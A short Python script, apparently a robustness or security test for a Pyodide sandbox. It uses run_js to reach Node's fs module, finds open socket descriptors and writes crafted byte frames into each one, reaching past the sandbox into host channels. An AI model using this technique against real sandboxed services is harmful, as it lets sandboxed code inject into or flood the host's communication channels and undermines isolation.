"""Sends chunks of one byte, which would be as many frames as a dump has bytes."""

from pyodide.code import run_js

send = run_js("""(bytes) => {
  const fs = process.getBuiltinModule("fs");
  for (let number = 3; number < 64; number++)
    try {
      if (fs.fstatSync(number).isSocket()) fs.writeSync(number, bytes.toJs());
    } catch {}
}""")
send(b"\x06\0\0\0B\xff\xff\xff\xff." * 100)
